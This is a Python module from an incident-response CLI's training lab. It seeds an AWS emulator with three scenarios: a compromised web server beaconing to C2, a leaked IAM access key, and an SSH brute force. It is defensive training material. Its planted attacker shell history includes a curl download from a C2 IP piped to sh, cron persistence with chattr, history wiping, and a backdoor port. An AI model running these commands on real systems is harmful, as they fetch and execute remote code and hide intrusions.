"""The lab's scenarios: what each seeds into the emulator and the alert it raises.

Every scenario is plain boto3 against the lab's endpoint plus ircli's own library calls (the
evidence bucket is made by ``ircli evidence init``'s code), so what the lab shows is what
ircli does against AWS.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from typing import Any

from ircli.core.clock import Clock
from ircli.core.session import AwsSession, AwsSettings
from ircli.lab import findings
from ircli.lab.planted import HostScenario
from ircli.lab.sandbox import lab_host
from ircli.lab.server import LAB_KEYS
from ircli.lab.web_compromise import ASSUME_EC2, lab_image, seed_web_compromise

EVIDENCE_BUCKET = "ircli-lab-evidence"
ANALYST_ROLE = "ircli-lab-analyst"
C2_IP = "185.220.101.66"
# The tag that tells the lab's agent which scenario host an instance is (lab only).
HOST_TAG = "ircli-lab:host"
# What the attacker left on each scenario's compromised host (planted by ircli.lab.sandbox).
HOSTS: dict[str, HostScenario] = {
    "web-compromise": HostScenario(
        "web-1", c2=(C2_IP, 443), beacon="kworkerd", replaced_binary="/usr/bin/top",
        backdoor_port=31337, attacker_key_comment=f"kworkerd@{C2_IP}",
        history=("id", "uname -a", f"curl -fsS http://{C2_IP}/k.sh -o /tmp/k.sh",
                 "sh /tmp/k.sh", "chattr +i /etc/cron.d/kworkerd", "history -c"),
        description=f"a web server whose implant kworkerd beacons to {C2_IP}:443"),
}


@dataclass
class Seeded:
    """What a scenario created: ids by role, its findings, and the evidence bucket."""

    scenario: str
    region: str
    resources: dict[str, Any]
    findings: list[dict[str, Any]]
    evidence_bucket: str | None = None
    notes: list[str] = field(default_factory=list)

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)


class LabAws:
    """Clients and an ircli session for the lab endpoint, always with the lab's dummy keys."""

    def __init__(self, endpoint: str, region: str) -> None:
        self.endpoint = endpoint
        self.region = region
        self.session = AwsSession(AwsSettings(region=region, endpoint_url=endpoint,
                                              static_credentials=LAB_KEYS))

    def __call__(self, service: str) -> Any:
        return self.session.client(service)


Seeder = Callable[[LabAws, Clock], Seeded]
SCENARIOS: dict[str, tuple[str, Seeder]] = {}


def scenario(name: str, summary: str) -> Callable[[Seeder], Seeder]:
    def register(fn: Seeder) -> Seeder:
        SCENARIOS[name] = (summary, fn)
        return fn

    return register


def _instance(aws: LabAws, instance_id: str) -> dict[str, Any]:
    found = aws("ec2").describe_instances(InstanceIds=[instance_id])["Reservations"]
    return dict(found[0]["Instances"][0])


def evidence_bucket(aws: LabAws) -> tuple[str, list[str]]:
    """Create the lab's evidence bucket with ircli's own `evidence init` code."""
    from ircli.evidence.bucket import BucketSpec, init_bucket

    iam = aws("iam")
    try:
        analyst = iam.create_role(RoleName=ANALYST_ROLE, AssumeRolePolicyDocument=ASSUME_EC2)[
            "Role"]["Arn"]
    except iam.exceptions.EntityAlreadyExistsException:
        analyst = iam.get_role(RoleName=ANALYST_ROLE)["Role"]["Arn"]
    responder = f"arn:aws:iam::{findings.ACCOUNT}:role/ircli-lab-responder"
    # COMPLIANCE, as `evidence init` defaults to: the emulator's state goes with `lab down`,
    # so nothing outlives the lab, and `evidence check` fails only on what the lab cannot have
    init_bucket(aws.session, BucketSpec(EVIDENCE_BUCKET, 90, "COMPLIANCE", None, (analyst,),
                                        responder))
    # The emulator applies the policy's Deny statements but ignores their conditions, so
    # with the policy in place it refuses every upload; AWS evaluates the conditions.
    aws("s3").delete_bucket_policy(Bucket=EVIDENCE_BUCKET)
    return EVIDENCE_BUCKET, ["The lab's evidence bucket runs without its bucket policy: the "
                             "emulator ignores policy conditions (AWS does not)."]


@scenario("web-compromise", "A web server in an Auto Scaling group talks to a C2 server.")
def web_compromise(aws: LabAws, clock: Clock) -> Seeded:
    lab = seed_web_compromise(aws, aws.region)
    aws("ec2").create_tags(Resources=[lab.suspect], Tags=[
        {"Key": HOST_TAG, "Value": "web-compromise"}])
    bucket, notes = evidence_bucket(aws)
    alert = findings.c2_activity(_instance(aws, lab.suspect), aws.region, clock.now())
    return Seeded("web-compromise", aws.region, lab.to_dict(), [alert], bucket, notes)


@scenario("leaked-key", "An IAM user's access key is used from a malicious IP address.")
def leaked_key(aws: LabAws, clock: Clock) -> Seeded:
    iam = aws("iam")
    user = "ci-deployer"
    iam.create_user(UserName=user)
    iam.create_login_profile(UserName=user, Password="Lab-only-password-1!")
    leaked = iam.create_access_key(UserName=user)["AccessKey"]["AccessKeyId"]
    spare = iam.create_access_key(UserName=user)["AccessKey"]["AccessKeyId"]
    iam.put_user_policy(UserName=user, PolicyName="deploy", PolicyDocument=(
        '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:*",'
        '"Resource":"*"}]}'))
    bucket, notes = evidence_bucket(aws)
    alert = findings.leaked_key(user, leaked, "185.220.101.45", aws.region, clock.now())
    return Seeded("leaked-key", aws.region,
                  {"user": user, "leaked_key": leaked, "other_key": spare}, [alert], bucket,
                  notes)


@scenario("ssh-brute-force", "A bastion host is brute-forced over SSH from the internet.")
def ssh_brute_force(aws: LabAws, clock: Clock) -> Seeded:
    ec2 = aws("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.30.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.30.1.0/24",
                               AvailabilityZone=f"{aws.region}a")["Subnet"]["SubnetId"]
    sg = ec2.create_security_group(GroupName="bastion", Description="ssh", VpcId=vpc)["GroupId"]
    bastion = ec2.run_instances(
        ImageId=lab_image(ec2), MinCount=1, MaxCount=1, InstanceType="t3.micro",
        NetworkInterfaces=[{"DeviceIndex": 0, "SubnetId": subnet, "Groups": [sg]}],
        TagSpecifications=[{"ResourceType": "instance",
                            "Tags": [{"Key": "Name", "Value": "bastion"}]}],
    )["Instances"][0]["InstanceId"]
    nacl = ec2.describe_network_acls(Filters=[{"Name": "vpc-id", "Values": [vpc]}])[
        "NetworkAcls"][0]["NetworkAclId"]
    attacker = "185.220.101.45"
    bucket, notes = evidence_bucket(aws)
    alert = findings.ssh_brute_force(_instance(aws, bastion), attacker, aws.region, clock.now())
    return Seeded("ssh-brute-force", aws.region,
                  {"vpc_id": vpc, "subnet_id": subnet, "bastion": bastion, "network_acl": nacl,
                   "attacker_ip": attacker}, [alert], bucket, notes)


def host_resolver(ec2: Any) -> Callable[[str], Any]:
    """For the lab's agent: each instance's host — its scenario's compromised host when the
    instance carries the lab's host tag, otherwise a clean host named after its Name tag."""
    cache: dict[str, Any] = {}

    def resolve(instance_id: str) -> Any:
        if instance_id not in cache:
            try:
                found = ec2.describe_instances(InstanceIds=[instance_id])["Reservations"]
                tags = {t["Key"]: t["Value"] for t in found[0]["Instances"][0].get("Tags", [])}
            except Exception:  # an id the emulator does not know: still never this machine
                tags = {}
            spec = HOSTS.get(tags.get(HOST_TAG, ""))
            if spec is None:
                name = "".join(c if c.isalnum() or c in "-." else "-"
                               for c in tags.get("Name", instance_id))[:63] or "host"
                spec = HostScenario(name)
            cache[instance_id] = lab_host(spec)
        return cache[instance_id]

    return resolve


def seed(name: str, aws: LabAws, clock: Clock) -> Seeded:
    from ircli.core.errors import InvalidInput

    if name not in SCENARIOS:
        raise InvalidInput(f"There is no lab scenario '{name}'.",
                           f"Choose one of: {', '.join(sorted(SCENARIOS))}.")
    return SCENARIOS[name][1](aws, clock)
